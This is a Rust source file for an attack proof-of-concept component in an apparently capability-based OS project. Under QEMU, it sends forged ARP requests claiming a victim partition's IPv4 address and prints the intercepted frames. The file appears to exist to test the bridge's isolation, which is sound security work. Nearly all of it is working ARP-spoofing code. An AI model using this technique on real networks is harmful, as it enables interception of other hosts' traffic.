//! Attack PoC partition: claims the other partition's IPv4 address over ARP.
//!
//! `netclient-arpspoof` sits on a bridge port like any partition. Its frames carry its
//! own station address (the bridge's anti-spoofing passes them), but its ARP requests
//! to the gateway name 10.0.2.16 (udpecho's address) as the sender: the gateway then
//! sends 10.0.2.16's traffic to this port, and the partition reads it.
#![no_std]
#![no_main]

use libcap::deadline::{self, Deadline};
use libcap::println;

libcap::component::entry!(main);

/// The victim partition's address and the gateway's (QEMU user network).
const VICTIM: [u8; 4] = [10, 0, 2, 16];
const GATEWAY: [u8; 4] = [10, 0, 2, 2];
/// TSC ticks between two spoofed ARP requests.
const EVERY: u64 = 50_000_000;

fn arp_request(mac: [u8; 6]) -> [u8; 60] {
    let mut f = [0u8; 60];
    f[..6].fill(0xff);
    f[6..12].copy_from_slice(&mac);
    f[12..14].copy_from_slice(&[0x08, 0x06]);
    f[14..22].copy_from_slice(&[0, 1, 0x08, 0x00, 6, 4, 0, 1]);
    f[22..28].copy_from_slice(&mac);
    f[28..32].copy_from_slice(&VICTIM);
    f[38..42].copy_from_slice(&GATEWAY);
    f
}

fn main(info: &'static abi::component::ComponentInfo) -> abi::exit::ExitCode {
    let mut link = match netclient::connect(info).and_then(|mut l| l.offer_receive_buffers().map(|()| l)) {
        Ok(link) => link,
        Err(e) => {
            println!("arpspoof: FAIL {e}");
            return abi::exit::ExitCode::UserFailure;
        }
    };
    println!("arpspoof: claiming 10.0.2.16 from {}", netclient::hex(&link.mac));
    let request = arp_request(link.mac);
    let mut next = 0u64;
    let mut stolen = 0u64;
    let mut frame = [0u8; 2048];
    loop {
        if deadline::now() >= next {
            if link.can_send().unwrap_or(false) {
                let _ = link.send(&request);
            }
            next = deadline::now() + EVERY;
        }
        while let Ok(Some(n)) = link.try_receive(&mut frame) {
            let f = &frame[..n];
            let ipv4 = n >= 34 && f[12..14] == [0x08, 0x00];
            if ipv4 && f[30..34] == VICTIM && stolen < 8 {
                stolen += 1;
                let ihl = usize::from(f[14] & 0xf) * 4;
                let body = f.get(14 + ihl..).unwrap_or(&[]);
                let port = body.get(2..4).map_or(0, |p| u16::from_be_bytes([p[0], p[1]]));
                let payload = body.get(8..).unwrap_or(&[]);
                let text = core::str::from_utf8(payload).unwrap_or("?");
                println!("arpspoof: stole a frame for 10.0.2.16 (proto {}, port {port}): '{text}'", f[23]);
            }
        }
        let _ = libcap::ipc::wait_until(link.from_driver, Deadline::after(2_000_000));
    }
}
